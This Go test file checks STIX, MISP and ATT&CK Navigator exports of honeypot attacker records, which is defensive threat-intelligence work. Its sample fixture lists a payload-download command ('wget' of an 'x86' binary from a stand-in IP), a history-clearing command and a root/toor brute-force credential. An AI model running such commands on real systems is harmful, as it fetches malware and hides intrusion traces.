package export

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"
)

var t0 = time.Date(2026, 11, 29, 13, 0, 0, 0, time.UTC)

func sample() Attacker {
	return Attacker{
		UUID: "0193a0f4-6c1e-7d2a-9a1f-5b2c3d4e5f60", IPs: []string{"198.51.100.7", "2001:db8::7"}, FirstSeen: t0, LastSeen: t0.Add(time.Hour),
		EventCount: 42, CountryCode: "NL", ASN: 64500, ASName: "EXAMPLE-AS",
		Credentials: []Credential{{Service: "ssh", Username: "root", Secret: "toor", Attempts: 12}},
		Files:       []File{{SHA256: strings.Repeat("ab", 32), Name: "x86", Size: 1234, Source: "http://203.0.113.5/x86", Malicious: true}},
		Commands:    []Command{{Text: "wget http://203.0.113.5/x86", Count: 2}, {Text: "history -c", Count: 1}},
		URLs:        []string{"http://203.0.113.5/x86"},
		Tags: []Tag{
			{UUID: "9aa491e5-f03b-5d8f-9eb5-161becedcdd6", Tactic: "TA0011", TechniqueID: "T1105", Confidence: 0.8, RuleID: "R0012", CreatedAt: t0},
			{UUID: "4fd57b14-c135-544c-97d9-4fabc1051584", Tactic: "TA0005", TechniqueID: "T1070", SubTechniqueID: "T1070.003", Confidence: 0.8, RuleID: "R0028", CreatedAt: t0},
			{UUID: "5fd57b14-c135-544c-97d9-4fabc1051584", Tactic: "TA0006", TechniqueID: "T1110", SubTechniqueID: "T1110.001", Confidence: 0.8, RuleID: "R0002", CreatedAt: t0},
			{UUID: "6fd57b14-c135-544c-97d9-4fabc1051584", Tactic: "TA0006", TechniqueID: "T1110", SubTechniqueID: "T1110.001", Confidence: 0.8, RuleID: "R0002", CreatedAt: t0},
		},
	}
}

const schemaBase = "https://raw.githubusercontent.com/st3l1n/cti-stix2-json-schemas/master/schemas/"

// localLoader serves the vendored schemas; observable schemas that are not
// vendored resolve to the common cyber-observable core.
type localLoader struct{}

func (localLoader) Load(url string) (any, error) {
	rel, ok := strings.CutPrefix(url, schemaBase)
	if !ok {
		return nil, os.ErrNotExist
	}
	b, err := os.ReadFile(filepath.Join("testdata", "stix21", "schemas", rel))
	if os.IsNotExist(err) && strings.HasPrefix(rel, "observables/") {
		return map[string]any{"$ref": schemaBase + "common/cyber-observable-core.json"}, nil
	}
	if err != nil {
		return nil, err
	}
	return jsonschema.UnmarshalJSON(bytes.NewReader(b))
}

func compile(t *testing.T, rel string) *jsonschema.Schema {
	t.Helper()
	c := jsonschema.NewCompiler()
	c.UseLoader(localLoader{})
	c.AssertFormat()
	s, err := c.Compile(schemaBase + rel)
	if err != nil {
		t.Fatalf("compile %s: %v", rel, err)
	}
	return s
}

func TestSTIXBundleValidatesAgainstSchemas(t *testing.T) {
	b := STIX([]Attacker{sample()}, STIXOptions{})
	raw, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Type    string            `json:"type"`
		ID      string            `json:"id"`
		Objects []json.RawMessage `json:"objects"`
	}
	if err := json.Unmarshal(raw, &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Type != "bundle" || !regexp.MustCompile(`^bundle--[0-9a-f-]{36}$`).MatchString(doc.ID) {
		t.Fatalf("bundle envelope %q %q", doc.Type, doc.ID)
	}
	schemas := map[string]*jsonschema.Schema{}
	types := map[string]int{}
	ids := map[string]bool{}
	for _, o := range doc.Objects {
		v, err := jsonschema.UnmarshalJSON(bytes.NewReader(o))
		if err != nil {
			t.Fatal(err)
		}
		typ := v.(map[string]any)["type"].(string)
		oid := v.(map[string]any)["id"].(string)
		if ids[oid] {
			t.Errorf("duplicate id %s", oid)
		}
		ids[oid] = true
		types[typ]++
		rel := map[string]string{"relationship": "sros/relationship.json", "sighting": "sros/sighting.json",
			"ipv4-addr": "observables/ipv4-addr.json", "process": "observables/process.json", "url": "observables/url.json",
			"ipv6-addr": "common/cyber-observable-core.json", "file": "common/cyber-observable-core.json"}[typ]
		if rel == "" {
			rel = "sdos/" + typ + ".json"
		}
		s := schemas[rel]
		if s == nil {
			s = compile(t, rel)
			schemas[rel] = s
		}
		if err := s.Validate(v); err != nil {
			t.Errorf("%s %s: %v", typ, oid, err)
		}
		if typ == "file" {
			hashes := v.(map[string]any)["hashes"]
			if err := compile(t, "common/hashes-type.json").Validate(hashes); err != nil {
				t.Errorf("file hashes: %v", err)
			}
		}
	}
	for _, typ := range []string{"identity", "threat-actor", "attack-pattern", "observed-data", "indicator", "relationship", "sighting", "ipv4-addr", "file", "process", "url"} {
		if types[typ] == 0 {
			t.Errorf("no %s object", typ)
		}
	}
	if types["attack-pattern"] != 3 || types["sighting"] != 4 {
		t.Errorf("attack-patterns %d (want 3 distinct techniques), sightings %d (want one per tag)", types["attack-pattern"], types["sighting"])
	}
	// The attack-patterns carry MITRE's own ids and references.
	if !strings.Contains(string(raw), `"external_id":"T1070.003"`) || !strings.Contains(string(raw), `"url":"https://attack.mitre.org/techniques/T1070/003"`) {
		t.Error("attack-pattern external reference missing")
	}
	// References point inside the bundle.
	for _, m := range regexp.MustCompile(`"(?:[a-z_]+_ref)":"([^"]+)"`).FindAllStringSubmatch(string(raw), -1) {
		if !ids[m[1]] {
			t.Errorf("dangling reference %s", m[1])
		}
	}
}

func TestSchemaRejectsBrokenObject(t *testing.T) {
	// The validator must be able to fail: a sighting without sighting_of_ref.
	v, _ := jsonschema.UnmarshalJSON(strings.NewReader(`{"type":"sighting","spec_version":"2.1","id":"sighting--6ba7b810-9dad-51d1-80b4-00c04fd430c8","created":"2026-01-01T00:00:00.000Z","modified":"2026-01-01T00:00:00.000Z"}`))
	if err := compile(t, "sros/sighting.json").Validate(v); err == nil {
		t.Fatal("invalid sighting accepted")
	}
}

func TestExportsAreDeterministic(t *testing.T) {
	a, _ := json.Marshal(STIX([]Attacker{sample()}, STIXOptions{}))
	b, _ := json.Marshal(STIX([]Attacker{sample()}, STIXOptions{}))
	if !bytes.Equal(a, b) {
		t.Error("STIX output differs between runs")
	}
	m1, _ := json.Marshal(MISP(sample(), nil))
	m2, _ := json.Marshal(MISP(sample(), nil))
	if !bytes.Equal(m1, m2) {
		t.Error("MISP output differs between runs")
	}
	// The fleet bundle shares the identity and attack-patterns.
	other := sample()
	other.UUID, other.IPs = "0193a0f4-6c1e-7d2a-9a1f-000000000002", []string{"203.0.113.9"}
	fleet := STIX([]Attacker{sample(), other}, STIXOptions{})
	n := 0
	for _, o := range fleet.Objects {
		if o.Type() == "identity" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d identities in the fleet bundle", n)
	}
}

func TestMISPRoundTripsStrict(t *testing.T) {
	ev := MISP(sample(), nil)
	raw, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.DisallowUnknownFields()
	var back MISPEvent
	if err := dec.Decode(&back); err != nil {
		t.Fatal(err)
	}
	again, _ := json.Marshal(back)
	if !bytes.Equal(raw, again) {
		t.Error("MISP event does not round-trip")
	}
	types := map[string]int{}
	for _, a := range back.Event.Attribute {
		types[a.Type]++
		if a.UUID == "" || a.Category == "" || a.Value == "" {
			t.Errorf("attribute %+v", a)
		}
	}
	if types["ip-src"] != 2 || types["sha256"] != 1 || types["url"] != 1 || types["text"] != 4 {
		t.Errorf("attribute types %v", types)
	}
	var galaxy []string
	for _, tg := range back.Event.Tag {
		if strings.HasPrefix(tg.Name, "misp-galaxy:mitre-attack-pattern=") {
			galaxy = append(galaxy, tg.Name)
		}
	}
	want := []string{
		`misp-galaxy:mitre-attack-pattern="Clear Command History - T1070.003"`,
		`misp-galaxy:mitre-attack-pattern="Ingress Tool Transfer - T1105"`,
		`misp-galaxy:mitre-attack-pattern="Password Guessing - T1110.001"`,
	}
	if strings.Join(galaxy, "\n") != strings.Join(want, "\n") {
		t.Errorf("galaxy tags\n%s\nwant\n%s", strings.Join(galaxy, "\n"), strings.Join(want, "\n"))
	}
	if back.Event.Date != "2026-11-29" {
		t.Errorf("date %q", back.Event.Date)
	}
}

func TestNavigatorLayer(t *testing.T) {
	l := Navigator("fleet", sample().Tags, nil)
	raw, _ := json.Marshal(l)
	var m map[string]any
	if err := json.Unmarshal(raw, &m); err != nil {
		t.Fatal(err)
	}
	if m["name"] != "DECNET TTP coverage — fleet" || m["domain"] != "enterprise-attack" {
		t.Errorf("header %v %v", m["name"], m["domain"])
	}
	v := m["versions"].(map[string]any)
	if v["layer"] != "4.5" || v["attack"] != "18.1" || v["navigator"] != "5.1.0" {
		t.Errorf("versions %v", v)
	}
	techs := m["techniques"].([]any)
	if len(techs) != 3 {
		t.Fatalf("%d techniques", len(techs))
	}
	idPat := regexp.MustCompile(`^T\d{4}(\.\d{3})?$`)
	scores := map[string]float64{}
	for _, x := range techs {
		tm := x.(map[string]any)
		for _, k := range []string{"techniqueID", "tactic", "score", "color", "comment", "enabled"} {
			if _, ok := tm[k]; !ok {
				t.Errorf("technique lacks %s: %v", k, tm)
			}
		}
		if !idPat.MatchString(tm["techniqueID"].(string)) || tm["enabled"] != true {
			t.Errorf("technique %v", tm)
		}
		scores[tm["techniqueID"].(string)] = tm["score"].(float64)
	}
	if scores["T1110.001"] != 2 || scores["T1105"] != 1 {
		t.Errorf("scores %v (sub-technique ids must be kept)", scores)
	}
}
